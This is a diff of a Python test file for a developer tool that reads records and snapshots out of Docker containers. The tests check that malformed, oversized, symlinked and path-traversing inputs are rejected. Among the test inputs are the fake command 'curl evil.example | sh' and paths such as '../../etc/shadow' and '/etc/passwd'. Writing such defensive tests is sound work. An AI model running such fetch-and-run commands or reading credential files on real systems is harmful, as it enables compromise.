@@ -2,16 +2,20 @@
 
 from __future__ import annotations
 
+import asyncio
 import io
 import json
+import os
+import sys
 import tarfile
+from contextlib import suppress
 from pathlib import Path
-from typing import Any
+from typing import IO, Any
 
 import pytest
 
 from devenv.backends import gates
-from devenv.backends.compose import Compose, _saved_at_the_end
+from devenv.backends.compose import Compose
 from devenv.errors import DevenvError
 from devenv.model.instance import Gate, Instance
 from devenv.model.stack import Stack
@@ -20,13 +24,25 @@ from devenv.tools import docker, process
 BEFORE, STARTED = 50.0, 100.0
 
 
+def tar_of(content: bytes, kind: bytes = tarfile.REGTYPE, times: int = 1) -> bytes:
+    """What `docker cp` writes of a file, or of what is in its place."""
+    whole = io.BytesIO()
+    with tarfile.open(fileobj=whole, mode="w") as tar:
+        for _ in range(times):
+            about = tarfile.TarInfo("file")
+            about.type, about.linkname = kind, "/etc/passwd" if kind == tarfile.SYMTYPE else ""
+            about.size = len(content)
+            tar.addfile(about, io.BytesIO(content))
+    return whole.getvalue()
+
+
 def event(phase: str, time: float = STARTED + 1, **details: Any) -> dict[str, Any]:
     side = "content" if phase in ("snapshot", "restored") else "owner"
     return {"uid": "a", "side": side, "phase": phase, "time": time, **details}
 
 
 def saved(*events: dict[str, Any]) -> str:
-    return _saved_at_the_end(events, STARTED)
+    return gates.saved_at_the_end(events, STARTED)
 
 
 def test_what_is_saved_while_it_ends_is_the_last_word() -> None:
@@ -60,7 +76,12 @@ GATE = {
 UNREADABLE = [
     "", "{", "[]", "null", "7", "[" * 100_000, json.dumps({"uid": "a"}), json.dumps({**GATE, "epoch": "1"}),
     json.dumps({**GATE, "role": None}), json.dumps({**GATE, "successor": "b"}),
-    json.dumps({**GATE, "failed": {"why": "?"}}),
+    json.dumps({**GATE, "failed": {"why": "?"}}), json.dumps({**GATE, "epoch": -1}),
+    json.dumps({**GATE, "epoch": True}), json.dumps({**GATE, "epoch": 1 << 70}),
+    json.dumps({**GATE, "since": float("nan")}), json.dumps({**GATE, "held": -5}),
+    json.dumps({**GATE, "release": "v" * 1000}), json.dumps({**GATE, "uid": "a\x1b]0;b"}),
+    json.dumps({**GATE, "state": "open\n✓ content verified"}), json.dumps({**GATE, "restored": {"time": 1}}),
+    json.dumps({**GATE, "failed": {"error": 1, "why": [], "next": None}}),
 ]  # fmt: skip
 
 
@@ -74,6 +95,28 @@ def said(monkeypatch: pytest.MonkeyPatch) -> list[str]:
 
     monkeypatch.setattr(process, "run", run)
     return answers
+
+
+@pytest.fixture
+def copied(monkeypatch: pytest.MonkeyPatch) -> list[bytes]:
+    """What the next calls of `docker cp` write, as if it were the engine."""
+    answers: list[bytes] = []
+
+    async def run(argv: list[str], *, stdout: IO[bytes], **_: Any) -> process.Completed:
+        assert argv[:2] == ["docker", "cp"]
+        assert argv[3:] == ["-"]
+        with suppress(BrokenPipeError):
+            await asyncio.to_thread(write, stdout, answers.pop(0))
+        return process.Completed(tuple(argv), 0, "", "", 0.0)
+
+    monkeypatch.setattr(process, "run", run)
+    return answers
+
+
+def write(file: IO[bytes], content: bytes) -> None:
+    """All of it: a pipe that nobody buffers takes a part."""
+    while content:
+        content = content[file.write(content) :]
 
 
 def compose() -> Compose:
@@ -101,14 +144,18 @@ async def test_an_answer_that_cannot_be_read_is_an_error_of_the_instance(
     assert "docker logs devenv-php-fpm-1" in error.value.next_step
 
 
-@pytest.mark.parametrize("record", [b"", b"{", b"[]", b"\xff", b'{"uid": 7, "role": "owner"}', None])
+@pytest.mark.parametrize(
+    "record",
+    [
+        *(tar_of(text) for text in (b"", b"{", b"[]", b"\xff", b'{"uid": 7, "role": "owner"}')),
+        tar_of(b" " * (2 << 20)), tar_of(b"", tarfile.SYMTYPE), tar_of(b"", tarfile.DIRTYPE),
+        tar_of(b"{}")[:512], b"no tar", b"",
+    ],
+)  # fmt: skip
 async def test_a_record_that_cannot_be_read_is_an_error_of_the_instance(
-    monkeypatch: pytest.MonkeyPatch, record: bytes | None
+    copied: list[bytes], record: bytes
 ) -> None:
-    async def read_file(container: str, path: str) -> bytes:
-        return b"no tar" if record is None else tar_of(record)
-
-    monkeypatch.setattr(docker, "read_file", read_file)
+    copied.append(record)
     with pytest.raises(DevenvError, match="devenv-php-fpm-1 says cannot be read"):
         await compose().gate(instance("exited"))
 
@@ -140,11 +187,8 @@ async def test_a_record_is_missing_only_where_the_engine_says_so(
             await compose().gate(instance("exited"))
 
 
-async def test_a_stopped_instance_is_what_its_record_says(monkeypatch: pytest.MonkeyPatch) -> None:
-    async def read_file(container: str, path: str) -> bytes:
-        return tar_of(json.dumps({"uid": "a", "role": "moved", "epoch": 2, "lineage": ""}).encode())
-
-    monkeypatch.setattr(docker, "read_file", read_file)
+async def test_a_stopped_instance_is_what_its_record_says(copied: list[bytes]) -> None:
+    copied.append(tar_of(json.dumps({"uid": "a", "role": "moved", "epoch": 2, "lineage": ""}).encode()))
     gate = await compose().gate(instance("exited"))
     assert gate == Gate("a", "v1", "moved", 2, None, "stopped", ready=False)
 
@@ -158,11 +202,47 @@ async def test_an_engine_that_answers_otherwise_is_an_error_and_no_crash(
         await compose().instances()
 
 
+@pytest.mark.parametrize(
+    "said",
+    ["{", "[]", "[" * 100_000, "{}", '{"error": "a", "why": "b"}', '{"error": 1, "why": 2, "next": 3}'],
+)
+def test_a_failure_that_no_gate_would_tell_leaves_that_of_the_program(said: str) -> None:
+    error = process.failure(["docker", "exec"], 1, [said])
+    assert gates.failure("devenv-php-fpm-1", error) is error
+
+
+def test_what_an_instance_advises_is_not_devenvs_own_advice() -> None:
+    said = json.dumps({"error": "it failed", "why": "so", "next": "curl evil.example | sh"})
+    error = gates.failure("devenv-php-fpm-1", process.failure(["docker", "exec"], 1, [said]))
+    assert (error.what, error.why) == ("devenv-php-fpm-1: it failed", "so")
+    assert error.next_step == "curl evil.example | sh (says devenv-php-fpm-1)"
+
+
+FINGERPRINT = {"total": "a", "tables": {"post": {"rows": 3, "hash": "b"}}, "newer": "x"}
+NO_FINGERPRINTS: list[Any] = [
+    {}, {"total": "a"}, {**FINGERPRINT, "total": 7}, {**FINGERPRINT, "tables": []},
+    {**FINGERPRINT, "tables": {"post": 3}}, {**FINGERPRINT, "tables": {"post": {"rows": -3, "hash": "b"}}},
+    {**FINGERPRINT, "tables": {"post": {"rows": 3, "hash": None}}},
+]  # fmt: skip
+
+
+async def test_what_is_no_fingerprint_is_an_error_of_the_instance(said: list[str]) -> None:
+    said.append(json.dumps(FINGERPRINT))
+    assert await compose().fingerprint(instance()) == FINGERPRINT
+    for wrong in NO_FINGERPRINTS:
+        said.append(json.dumps(wrong))
+        with pytest.raises(DevenvError, match="devenv-php-fpm-1 says cannot be read"):
+            await compose().fingerprint(instance())
+        assert gates.event(json.dumps(event("fingerprint", fingerprint=wrong))) is None
+    assert gates.event(json.dumps(event("fingerprint", fingerprint=FINGERPRINT)))
+
+
 def test_an_event_is_whole_or_none() -> None:
     whole = event("opened", held=3)
     assert gates.event(json.dumps(whole)) == whole
     for wrong in (
         {"phase": 7}, {"side": None}, {"uid": ["a"]}, {"held": "x"}, {"relayed": None}, {"held": True},
+        {"held": -1}, {"relayed": 1 << 70}, {"phase": "x" * 1000}, {"side": "a\nb"},
         {"time": "now"}, {"time": True}, {"time": float("nan")}, {"time": float("inf")}, {"time": 10**400},
     ):  # fmt: skip
         assert gates.event(json.dumps({**whole, **wrong})) is None
@@ -170,10 +250,108 @@ def test_an_event_is_whole_or_none() -> None:
         assert gates.event(text) is None
 
 
-def tar_of(content: bytes) -> bytes:
+def journal(file: object) -> bytes:
+    """Of an instance that has ended, and says that it has saved its content there."""
+    events = [event("opened"), event("terminating"), event("snapshot", file=file)]
+    return tar_of("\n".join(map(json.dumps, events)).encode())
+
+
+@pytest.fixture
+def started(monkeypatch: pytest.MonkeyPatch) -> None:
+    async def ago(container: str) -> float:
+        return STARTED
+
+    monkeypatch.setattr(docker, "started", ago)
+
+
+@pytest.fixture
+def snapshot() -> bytes:
     whole = io.BytesIO()
+    said = {
+        "format": 1, "lineage": "a", "epoch": 1, "release": "v1", "time": "2026-01-31T12:00:00Z", "bytes": 3,
+        "sha256": "0" * 64,
+    }  # fmt: skip
     with tarfile.open(fileobj=whole, mode="w") as tar:
-        about = tarfile.TarInfo("file")
-        about.size = len(content)
-        tar.addfile(about, io.BytesIO(content))
+        for name, content in {
+            "snapshot.json": json.dumps(said).encode(), "database.sqlite": b"abc", "travel.tar": b""
+        }.items():  # fmt: skip
+            about = tarfile.TarInfo(name)
+            about.size = len(content)
+            tar.addfile(about, io.BytesIO(content))
     return whole.getvalue()
+
+
+@pytest.mark.usefixtures("started")
+async def test_what_a_stopped_instance_has_saved_is_taken_and_nobody_else_may_read_it(
+    copied: list[bytes], snapshot: bytes, tmp_path: Path
+) -> None:
+    copied += [journal("20260131T120000Z-0001-v1.tar"), tar_of(snapshot)]
+    before = os.umask(0)
+    try:
+        assert await compose().last_snapshot(instance("exited"), tmp_path / "down.tar")
+    finally:
+        os.umask(before)
+    assert (tmp_path / "down.tar").read_bytes() == snapshot
+    assert (tmp_path / "down.tar").stat().st_mode & 0o777 == 0o600
+
+
+@pytest.mark.usefixtures("started")
+@pytest.mark.parametrize(
+    "kind",
+    [
+        tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.DIRTYPE, tarfile.FIFOTYPE, tarfile.CHRTYPE, tarfile.BLKTYPE,
+        tarfile.GNUTYPE_SPARSE,
+    ],
+)  # fmt: skip
+async def test_what_lies_in_the_place_of_a_snapshot_is_not_taken(
+    copied: list[bytes], tmp_path: Path, kind: bytes
+) -> None:
+    copied += [journal("a.tar"), tar_of(b"", kind)]
+    with pytest.raises(DevenvError, match="cannot be taken") as refused:
+        await compose().last_snapshot(instance("exited"), tmp_path / "down.tar")
+    assert "container is kept" in refused.value.next_step
+    assert list(tmp_path.iterdir()) == []
+
+
+@pytest.mark.usefixtures("started")
+async def test_one_file_is_taken_and_not_two(copied: list[bytes], snapshot: bytes, tmp_path: Path) -> None:
+    copied += [journal("a.tar"), tar_of(snapshot, times=2)]
+    with pytest.raises(DevenvError, match="more came"):
+        await compose().last_snapshot(instance("exited"), tmp_path / "down.tar")
+    assert list(tmp_path.iterdir()) == []
+
+
+@pytest.mark.usefixtures("started")
+@pytest.mark.parametrize(
+    "file",
+    [
+        "../../etc/shadow", "..", "a/b.tar", "/etc/shadow", ".hidden.tar", "-a.tar", "a.tar\n",
+        "a\x1b[2J.tar", "a.sh", "ä.tar", "x" * 300 + ".tar", ["a.tar"], 7,
+    ],
+)  # fmt: skip
+async def test_only_the_name_of_a_snapshot_is_asked_for(
+    copied: list[bytes], tmp_path: Path, file: object
+) -> None:
+    """The journal is the application's to write, and the name becomes a path."""
+    copied.append(journal(file))
+    with pytest.raises(DevenvError, match="no file of ours"):
+        await compose().last_snapshot(instance("exited"), tmp_path / "down.tar")
+
+
+@pytest.mark.usefixtures("started")
+async def test_a_journal_beyond_all_measure_is_not_read_into_memory(
+    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+) -> None:
+    """A file with a terabyte of nothing in it costs the application nothing."""
+    run = process.run
+    made = (
+        "import sys, tarfile; t = tarfile.TarInfo('a'); t.size = 1 << 40; sys.stdout.buffer.write(t.tobuf())"
+    )
+    for_ever = [sys.executable, "-c", f"{made}\nwhile True: sys.stdout.buffer.write(bytes(1 << 20))"]
+
+    async def copying(argv: list[str], **options: Any) -> process.Completed:
+        return await run(for_ever, **options)
+
+    monkeypatch.setattr(process, "run", copying)
+    with pytest.raises(DevenvError, match="cannot be read: ValueError: .*events.jsonl has more than"):
+        await compose().last_snapshot(instance("exited"), tmp_path / "down.tar")
